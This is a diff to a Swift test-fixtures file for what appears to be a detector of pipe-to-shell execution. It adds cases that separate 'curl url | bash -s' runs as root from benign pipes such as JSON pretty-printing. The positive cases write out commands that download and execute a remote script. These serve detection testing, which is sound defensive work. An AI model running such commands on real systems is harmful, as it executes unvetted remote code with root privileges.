@@ -18,11 +18,17 @@ extension Fixtures {
                 Case("curl url | bash -s -- --token x (arguments for the downloaded script)",
                      Actor(Proc("/usr/bin/bash", ["bash", "-s", "--", "--token", "x"]), in: Trees.rootLogin)
                         .execPiped(from: Proc.line("/usr/bin/curl", "curl -sL http://198.51.100.9/setup"))),
+                Case("curl url | bash -s -- --install (arguments after -s, program from stdin)",
+                     Actor(Proc("/usr/bin/bash", ["bash", "-s", "--", "--install"]), in: Trees.rootLogin)
+                        .execPiped(from: Proc.line("/usr/bin/curl", "curl -sL http://198.51.100.9/setup"))),
             ],
             negatives: [
                 Case("curl api | python3 -m json.tool (pretty-printing)",
                      Actor(Proc("/usr/bin/python3.11", ["python3", "-m", "json.tool"], uid: 1000), in: Trees.userLogin)
                         .execPiped(from: Proc.line("/usr/bin/curl", "curl -s http://127.0.0.1:8080/api", uid: 1000))),
+                Case("curl api | python3 through a pyenv shim (a bash script given the pipe as data)",
+                     Actor(Proc("/usr/bin/bash", ["bash", "/root/.pyenv/shims/python3", "-m", "json.tool"]), in: Trees.rootLogin)
+                        .execPiped(from: Proc.line("/usr/bin/curl", "curl -s http://127.0.0.1:8080/api"))),
                 Case("curl url | sh -c 'cat > file' (the shell runs its own command)",
                      Actor(Proc.shell("cat > /tmp/out"), in: Trees.rootLogin)
                         .execPiped(from: Proc.line("/usr/bin/curl", "curl -s http://127.0.0.1/x"))),
